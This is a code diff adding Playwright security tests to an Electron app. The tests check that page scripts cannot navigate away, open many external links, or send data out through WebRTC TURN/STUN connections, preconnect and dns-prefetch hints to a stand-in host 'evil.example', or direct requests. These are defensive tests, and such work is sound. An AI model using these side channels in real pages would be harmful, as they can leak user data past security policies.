@@ -1,12 +1,15 @@
+import { createSocket } from 'node:dgram';
 import { once } from 'node:events';
+import { readFileSync } from 'node:fs';
 import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import { createServer as createTcpServer, type AddressInfo } from 'node:net';
 import path from 'node:path';
 import type { ElectronApplication, Page } from '@playwright/test';
 import type { Bridge, Reply } from '#shared/contract/bridge.ts';
 import { errorCodes } from '#shared/lib/app-error.ts';
 import { demoAccount } from '#tests/support/app-server.ts';
 import { signIn } from '#tests/support/journeys/signing-in.ts';
+import { readLogs } from './app-log.ts';
 import { expect, projectRoot, test } from './fixtures.ts';
 import { malformedCalls } from './malformed-calls.ts';
 
@@ -80,6 +83,94 @@ test('the window does not leave the app’s page, and opens no other', async ({ 
     consoleNoise.splice(0).filter((line) => !line.includes('Not allowed to load local resource')),
   ).toEqual([]);
   elsewhere.close();
+});
+
+test('a page left for an empty one comes back', async ({ launch, home }) => {
+  const { app, page } = await launch();
+  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
+  await app.evaluate(({ BrowserWindow }) => {
+    const contents = BrowserWindow.getAllWindows()[0]?.webContents;
+    void contents?.executeJavaScript("location.href = 'about:blank'");
+  });
+  await expect.poll(() => readLogs(home)).toContainEqual(expect.objectContaining({ event: 'page.left' }));
+  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
+  expect(page.url()).toMatch(/^app:\/\/bundle\/#/);
+});
+
+test('a script cannot tell the web by opening links', async ({ launch, home }) => {
+  const { app, page } = await launch();
+  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
+  await app.evaluate(({ shell }) => {
+    const opened: string[] = [];
+    Object.assign(globalThis, { opened });
+    shell.openExternal = async (url) => void opened.push(url);
+  });
+  await page.evaluate(() => {
+    for (let part = 0; part < 50; part += 1) window.open(`https://evil.example/?${part}`);
+  });
+  await expect.poll(() => readLogs(home)).toContainEqual(expect.objectContaining({ event: 'link.refused' }));
+  expect(await app.evaluate(() => (globalThis as unknown as { opened: string[] }).opened)).toHaveLength(5);
+});
+
+test('a script cannot talk out past the policy: peer connections, hints to the browser', async ({
+  launch,
+  home,
+}) => {
+  const seen: string[] = [];
+  const overTcp = createTcpServer((socket) => {
+    seen.push('tcp');
+    socket.destroy();
+  }).listen(0, '127.0.0.1');
+  const overUdp = createSocket('udp4').on('message', () => seen.push('udp'));
+  overUdp.bind(0, '127.0.0.1');
+  await Promise.all([once(overTcp, 'listening'), once(overUdp, 'listening')]);
+  const tcp = (overTcp.address() as AddressInfo).port;
+  const { app, page } = await launch();
+  await expect(page.getByRole('tab', { name: 'Sign In' })).toBeVisible();
+  const network = path.join(home, 'network.json');
+  await app.evaluate(({ netLog }, file) => netLog.startLogging(file), network);
+  const gathered = await page.evaluate(
+    async ([tcp, udp]) => {
+      const hint = (rel: string, href: string) => {
+        document.head.append(Object.assign(document.createElement('link'), { rel, href }));
+      };
+      hint('preconnect', `https://127.0.0.1:${tcp}`);
+      hint('dns-prefetch', 'https://a-secret.evil.example');
+      const servers = [
+        `turn:127.0.0.1:${tcp}?transport=tcp`,
+        `turn:127.0.0.1:${udp}`,
+        `stun:127.0.0.1:${udp}`,
+      ];
+      const peer = new RTCPeerConnection({
+        iceServers: servers.map((urls) => ({ urls, username: 'secret', credential: 'secret' })),
+      });
+      peer.createDataChannel('out');
+      const done = new Promise((resolve) => {
+        peer.onicegatheringstatechange = () => peer.iceGatheringState === 'complete' && resolve(true);
+      });
+      await peer.setLocalDescription(await peer.createOffer());
+      return done;
+    },
+    [tcp, overUdp.address().port] as const,
+  );
+  expect(gathered).toBe(true);
+  expect(seen).toEqual([]);
+  await app.evaluate(({ netLog }) => netLog.stopLogging());
+  expect(readFileSync(network, 'utf8')).not.toContain('a-secret');
+  // Whatever is asked for beneath the policy.
+  const blocked = await app.evaluate(async ({ net, session }, address) => {
+    const proxy = await session.defaultSession.resolveProxy('https://example.com/');
+    return new Promise((resolve) => {
+      const request = net.request({ url: address, session: session.defaultSession });
+      request.on('response', () => resolve('reached'));
+      request.on('error', (error) => resolve(`${proxy} ${error.message}`));
+      request.end();
+    });
+  }, `http://127.0.0.1:${tcp}/`);
+  expect(blocked).toBe('PROXY 127.0.0.1:9 net::ERR_BLOCKED_BY_CLIENT');
+  expect(seen).toEqual([]);
+  overTcp.close();
+  overUdp.close();
 });
 
 test('the page may copy, and asks for nothing else', async ({ launch }) => {
@@ -169,7 +260,13 @@ const inAnotherWindow = (app: ElectronApplication, options: OtherWindow, script:
     async ({ BrowserWindow }, [{ url, nodeIntegrationInSubFrames = false }, preload, script]) => {
       const window = new BrowserWindow({
         show: false,
-        webPreferences: { preload, sandbox: true, nodeIntegrationInSubFrames },
+        // The app's own session has no network.
+        webPreferences: {
+          preload,
+          sandbox: true,
+          nodeIntegrationInSubFrames,
+          ...(url.startsWith('http') ? { partition: 'elsewhere' } : {}),
+        },
       });
       try {
         await window.loadURL(url);
